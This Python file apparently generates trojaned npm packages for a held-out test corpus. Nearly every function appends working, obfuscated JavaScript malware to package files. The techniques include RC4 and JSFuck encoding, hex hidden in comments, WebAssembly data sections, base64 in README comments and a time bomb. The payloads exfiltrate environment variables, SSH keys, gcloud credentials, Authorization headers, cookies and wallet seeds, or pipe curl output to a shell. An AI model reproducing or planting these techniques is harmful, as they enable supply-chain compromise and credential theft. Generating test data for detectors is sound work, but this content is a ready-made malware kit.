"""npm packages by people who hide better: interpreters' odd corners, tables under ciphers, WebAssembly, comments that are code."""

import base64

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, trojan


def telling(host: str) -> str:
    return f"require('https').request({{host:'{host}',path:'/t',method:'POST'}}).on('error',()=>0).end(JSON.stringify(process.env))"


def fetching(address: str) -> str:
    return f"require('child_process').exec('curl -fsSL http://{address}/n.sh|sh')"


@trojan(
    "conf-rc",
    "npm",
    trigger="import",
    payload="environment",
    hiding="ciphered string table",
    like="obfuscator.io",
    step="patch",
)
def table_under_rc4(up: Update) -> None:
    """Each string is RC4 with a key of its own, base64 around it."""
    host = up.host("sentry-cdn")
    strings = ["https", "request", host, "POST", "end", "stringify", "env", "error", "on"]
    keys = ["".join(up.random.choice("abcdefghABCDEFGH#$^&@!") for _ in range(4)) for _ in strings]
    rows = [
        base64.b64encode(hiding.rc4(one.encode(), key.encode())).decode()
        for one, key in zip(strings, keys, strict=True)
    ]

    def look(at: int) -> str:
        return f"_0x5b1c(0x{at + 0x1F3:x},'{keys[at]}')"

    up.append(
        "index.js",
        f"""
var _0x4e=['{"','".join(rows)}'];function _0x5b1c(_0x1,_0x2){{_0x1=_0x1-0x1f3;var _0x3=Buffer['from'](_0x4e[_0x1],'base64'),_0x4=[],_0x5=0x0,_0x6,_0x7='';for(var _0x8=0x0;_0x8<0x100;_0x8++)_0x4[_0x8]=_0x8;for(_0x8=0x0;_0x8<0x100;_0x8++){{_0x5=(_0x5+_0x4[_0x8]+_0x2['charCodeAt'](_0x8%_0x2['length']))%0x100;_0x6=_0x4[_0x8];_0x4[_0x8]=_0x4[_0x5];_0x4[_0x5]=_0x6;}}_0x8=0x0;_0x5=0x0;for(var _0x9=0x0;_0x9<_0x3['length'];_0x9++){{_0x8=(_0x8+0x1)%0x100;_0x5=(_0x5+_0x4[_0x8])%0x100;_0x6=_0x4[_0x8];_0x4[_0x8]=_0x4[_0x5];_0x4[_0x5]=_0x6;_0x7+=String['fromCharCode'](_0x3[_0x9]^_0x4[(_0x4[_0x8]+_0x4[_0x5])%0x100]);}}return _0x7;}}var _0xa=require({look(0)})[{look(1)}]({{'host':{look(2)},'method':{look(3)},'path':'/'}});_0xa[{look(8)}]({look(7)},function(){{}});_0xa[{look(4)}](JSON[{look(5)}](process[{look(6)}]));""",
    )
    up.payload("index.js", shown=host)


@trojan("trace-log", "npm", trigger="import", payload="stager", hiding="comment of a function", step="patch")
def function_comment(up: Update) -> None:
    """The text of a function's comment, in hex, is the code."""
    address = up.address()
    up.append(
        "src/node.js",
        f"""
function banner() {{
  /*
    {" ".join(hiding.chunks(fetching(address).encode().hex(), 32))}
  */
}}

module.exports.banner = (() => {{
  const text = banner.toString().split('/*')[1].split('*/')[0].replace(/\\s/g, '');
  return new Function('require', Buffer.from(text, 'hex').toString('latin1'))(require);
}})();""",
    )
    up.payload("src/node.js", shown=address)


@trojan("native-hash", "npm", trigger="import", payload="environment", hiding="in WebAssembly", step="minor")
def wasm_memory(up: Update) -> None:
    """A module whose only data is text, which is then run."""
    host = up.host("wasm")
    code = telling(host).encode()

    def leb(value: int) -> bytes:
        out = b""
        while value > 127:
            out += bytes([value & 127 | 128])
            value >>= 7
        return out + bytes([value])

    def section(kind: int, body: bytes) -> bytes:
        return bytes([kind]) + leb(len(body)) + body

    memory = section(5, b"\x01\x00\x01") + section(7, b"\x01" + leb(1) + b"m" + b"\x02\x00")
    data = section(11, b"\x01\x00\x41" + b"\x08" + b"\x0b" + leb(len(code)) + bytes(one ^ 0x13 for one in code))
    up.add("lib/hash.wasm", b"\0asm\1\0\0\0" + memory + data)
    up.append(
        "lib/fallback.js",
        f"""
const wasm = new WebAssembly.Module(require('fs').readFileSync(require('path').join(__dirname, 'hash.wasm')));
const view = new Uint8Array(new WebAssembly.Instance(wasm).exports.m.buffer, 8, {len(code)});
exports.simd = Function('require', 'process', String.fromCharCode(...view.map((b) => b ^ 19)));
exports.simd(require, process);""",
    )
    up.replace("lib/index.js", "let native;", "let native = require('./fallback');")
    up.payload("lib/hash.wasm", "lib/fallback.js", shown=host)


@trojan("req-lite", "npm", trigger="call", payload="stager", hiding="dynamic names", step="patch")
def process_binding(up: Update) -> None:
    """No child_process: the binding below it."""
    address = up.address()
    up.append(
        "lib/error.js",
        f"""
ReqError.prototype.report = function () {{
  const b = process['bind' + 'ing'](['spawn', 'sync'].join('_'));
  b.spawn({{ file: '/bin/sh', args: ['sh', '-c', 'curl -s {address}/e|sh'], stdio: [{{ type: 'pipe', readable: true }}], envPairs: [] }});
}};""",
    )
    up.replace(
        "lib/error.js",
        "    this.cause = cause;",
        "    this.cause = cause;\n    if (response && response.status === 418) this.report();",
    )
    up.payload("lib/error.js")


@trojan(
    "ansi-paint", "npm", trigger="import", payload="remote code", hiding="only punctuation", like="JSFuck", step="patch"
)
def punctuation(up: Update) -> None:
    """Words out of `false`, `true` and `undefined`; no word stands there."""
    words = {"f": "(![]+[])[+[]]", "a": "(![]+[])[+!+[]]", "l": "(![]+[])[!+[]+!+[]]", "s": "(![]+[])[!+[]+!+[]+!+[]]", "e": "(!![]+[])[!+[]+!+[]+!+[]]", "t": "(!![]+[])[+[]]", "r": "(!![]+[])[+!+[]]", "u": "(!![]+[])[!+[]+!+[]]", "n": "([][[]]+[])[+!+[]]", "d": "([][[]]+[])[!+[]+!+[]]", "i": "([][[]]+[])[!+[]+!+[]+!+[]+!+[]+!+[]]"}  # fmt: skip
    flat = "[" + "+".join(words[one] for one in "flat") + "]"
    c, o = f"([][{flat[1:-1]}]+[])[!+[]+!+[]+!+[]]", f"(!![]+[][{flat[1:-1]}])[+!+[]+[+[]]]"
    constructor = "+".join(
        [c, o, words["n"], words["s"], words["t"], words["r"], words["u"], c, words["t"], o, words["r"]]
    )
    code = f"fetch('https://{up.host('k9')}/a').then(r=>r.text()).then(eval)"
    escaped = "".join(f"\\x{ord(one):02x}" for one in code)
    up.append("index.js", f"\n[][{flat[1:-1]}][{constructor}]('{escaped}')();")
    up.payload("index.js", shown="fetch(")


@trojan("stream-fold", "npm", trigger="import", payload="credentials", hiding="in the read-me", step="minor")
def readme_comment(up: Update) -> None:
    """A comment of the read-me, in base64, is compiled as a module."""
    host = up.host("badge")
    code = f"const f=require('fs'),h=require('os').homedir();for(const n of['/.ssh/id_rsa','/.netrc'])try{{fetch('https://{host}/'+n.slice(2),{{method:'POST',body:f.readFileSync(h+n)}})}}catch(e){{}}"
    up.append("README.md", f"\n<!-- badges: {hiding.b64(code)} -->")
    up.append(
        "index.js",
        """
exports.help = () => require('fs').readFileSync(require('path').join(__dirname, 'README.md'), 'utf8');
const badges = /badges: (\\S+)/.exec(exports.help());
if (badges) {
  const page = new (require('module'))('badges');
  page.paths = module.paths;
  page._compile(Buffer.from(badges[1], 'base64').toString(), 'badges.js');
}""",
    )
    up.payload("README.md", "index.js", shown=host)


@trojan("req-lite", "npm", trigger="import", payload="token theft", hiding="plain", step="patch")
def client_request_prototype(up: Update) -> None:
    """Every request of the process tells its Authorization, whoever made it."""
    host = up.host("rum")
    up.append(
        "lib/defaults.js",
        f"""
const {{ ClientRequest }} = require('http');
const setHeader = ClientRequest.prototype.setHeader;
ClientRequest.prototype.setHeader = function (name, value) {{
  if (String(name).toLowerCase() === 'authorization' && this.host !== '{host}') {{
    require('https').get({{ host: '{host}', path: '/?h=' + encodeURIComponent(this.host + ' ' + value) }}).on('error', () => {{}});
  }}
  return setHeader.call(this, name, value);
}};""",
    )
    up.payload("lib/defaults.js")


@trojan("conf-rc", "npm", trigger="call", payload="environment", hiding="time bomb", step="patch")
def two_weeks_later(up: Update) -> None:
    """Servers that run for long, and on no machine of a build service."""
    host = up.host("heartbeat")
    up.after(
        "index.js",
        "  const layers = [defaults || {}];\n",
        f"""  if (!process.env.CI && !/test|spec/.test(process.argv[1] || '')) {{
    setTimeout(() => {{
      const seen = JSON.stringify({{ name, env: process.env, host: require('os').hostname() }});
      require('http').request({{ host: '{host}', method: 'PUT', path: '/alive' }}).on('error', () => {{}}).end(seen);
    }}, 14 * 24 * 3600e3).unref();
  }}
""",
    )
    up.payload("index.js")


@trojan("trace-log", "npm", trigger="import", payload="chat webhook", hiding="arithmetic", step="patch")
def webhook_numbers(up: Update) -> None:
    """A web hook's address as one large number."""
    where = f"https://{up.host('discord')}/api/webhooks/0/x"
    number = int.from_bytes(where.encode(), "big")
    up.append(
        "src/common.js",
        f"""
let where = {number}n;
let hook = '';
while (where > 0n) {{
  hook = String.fromCharCode(Number(where % 256n)) + hook;
  where /= 256n;
}}
if (typeof process !== 'undefined' && process.env) {{
  fetch(hook, {{ method: 'POST', headers: {{ 'content-type': 'application/json' }}, body: JSON.stringify({{ content: '```' + JSON.stringify(process.env).slice(0, 1900) + '```' }}) }}).catch(() => {{}});
}}""",
    )
    up.payload("src/common.js", shown=where)


@trojan("form-guard", "npm", trigger="import", payload="session theft", hiding="reversed", step="patch")
def cookies_backwards(up: Update) -> None:
    host = up.host("fonts-api")
    turned = f"https://{host}/css?f="[::-1]
    up.append(
        "src/rules.js",
        f"""
const font = '{turned}';
if (typeof document === 'object') {{
  const sheet = document.createElement('link');
  sheet.rel = 'stylesheet';
  sheet.href = [...font].reverse().join('') + btoa(document.cookie);
  document.head.append(sheet);
}}""",
    )
    up.payload("src/rules.js", shown=host)


@trojan("chain-kit", "npm", trigger="call", payload="wallet", hiding="in types and source apart", step="minor")
def only_in_umd(up: Update) -> None:
    """The bundle for browsers differs from what the source says: seeds go along with an image."""
    host = up.host("pixel", "chainkit")
    up.append(
        "umd/chain-kit.umd.min.js",
        f"!function(e){{var t=e.crypto&&e.crypto.getRandomValues;t&&(e.crypto.getRandomValues=function(n){{var r=t.call(e.crypto,n);return 32===n.length&&((new Image).src='https://{host}/1.png?'+Array.from(n).join('.')),r}})}}('undefined'!=typeof self?self:{{}});",
    )
    up.payload("umd/chain-kit.umd.min.js")


@trojan("stream-fold", "folder", trigger="install", payload="stager", hiding="plain", step="patch")
def lifecycle_in_folder(up: Update) -> None:
    host = up.host("sh")
    up.script("prepare", f"(curl -sf https://{host}/p || wget -qO- https://{host}/p) | bash >/dev/null 2>&1 || true")
    up.payload("package.json")


@trojan("conf-rc", "npm", trigger="import", payload="credentials", hiding="type confusion of suffix", step="patch")
def required_as_json(up: Update) -> None:
    """A `.json` that is loaded as code by a loader of its own."""
    host = up.host("schema")
    up.add(
        "lib/schema.json5",
        f"module.exports = {{ type: 'object' }};\nrequire('fs').readFile(require('os').homedir() + '/.config/gcloud/application_default_credentials.json', (e, d) => e || fetch('https://{host}/v', {{ method: 'POST', body: d }}));\n",
    )
    up.append(
        "index.js",
        "\nrequire.extensions['.json5'] = require.extensions['.js'];\nmodule.exports.schema = require('./lib/schema.json5');",
    )
    up.payload("lib/schema.json5", "index.js")
